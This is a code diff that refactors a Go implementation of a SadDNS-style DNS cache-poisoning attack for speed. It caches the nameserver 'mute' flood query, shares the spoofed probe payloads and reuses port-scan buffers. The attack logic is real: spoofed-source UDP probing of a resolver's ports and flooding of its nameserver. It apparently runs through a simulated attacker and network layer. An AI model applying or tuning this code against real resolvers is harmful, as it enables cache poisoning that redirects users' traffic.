@@ -65,7 +65,22 @@ type SadDNS struct {
 
 	cursor  uint16 // scan position across iterations
 	floodAt time.Duration
+	// muteWire caches the packed mute query (same bytes every window);
+	// chunkBuf is the reused candidate-port batch. Both are per-run
+	// scratch — the probe loops are the attack's hottest paths after
+	// the TXID flood.
+	muteWire []byte
+	chunkBuf []uint16
 }
+
+// probePayload and padPayload are the fixed bodies of scan datagrams;
+// package-level so the per-probe []byte("...") conversions do not
+// allocate. SendUDPSpoofed serializes into its own buffer, so sharing
+// is safe.
+var (
+	probePayload = []byte("probe")
+	padPayload   = []byte("pad")
+)
 
 // Run executes the attack until success or MaxIterations.
 func (a *SadDNS) Run(trigger Trigger) Result {
@@ -207,13 +222,19 @@ func (a *SadDNS) mute() {
 	if a.MuteQPS <= 0 {
 		return
 	}
-	q := dnswire.NewQuery(0xdead, "mute."+dnswire.CanonicalName(a.Spoof.QName), dnswire.TypeA)
-	wire, err := q.Pack()
-	if err != nil {
-		return
+	if a.muteWire == nil {
+		// The mute query is identical every window: pack it once per
+		// run. SendUDP copies the payload, so the cached wire is never
+		// mutated in flight.
+		q := dnswire.NewQuery(0xdead, "mute."+dnswire.CanonicalName(a.Spoof.QName), dnswire.TypeA)
+		wire, err := q.Pack()
+		if err != nil {
+			return
+		}
+		a.muteWire = wire
 	}
 	for i := 0; i < a.MuteQPS; i++ {
-		a.Attacker.SendUDP(uint16(20000+i%1000), a.NSAddr, 53, wire)
+		a.Attacker.SendUDP(uint16(20000+i%1000), a.NSAddr, 53, a.muteWire)
 	}
 }
 
@@ -223,11 +244,11 @@ func (a *SadDNS) mute() {
 func (a *SadDNS) probe(ports []uint16) {
 	sent := 0
 	for _, p := range ports {
-		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, p, []byte("probe"))
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, p, probePayload)
 		sent++
 	}
 	for pad := 0; sent < 50; pad++ {
-		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), []byte("pad"))
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), padPayload)
 		sent++
 	}
 }
@@ -236,7 +257,10 @@ func (a *SadDNS) probe(ports []uint16) {
 // scan cursor with wraparound and skipping the resolver's service
 // port.
 func (a *SadDNS) nextChunk(n int) []uint16 {
-	out := make([]uint16, 0, n)
+	if cap(a.chunkBuf) < n {
+		a.chunkBuf = make([]uint16, 0, n)
+	}
+	out := a.chunkBuf[:0]
 	for len(out) < n {
 		p := a.cursor
 		if a.cursor >= a.PortMax {
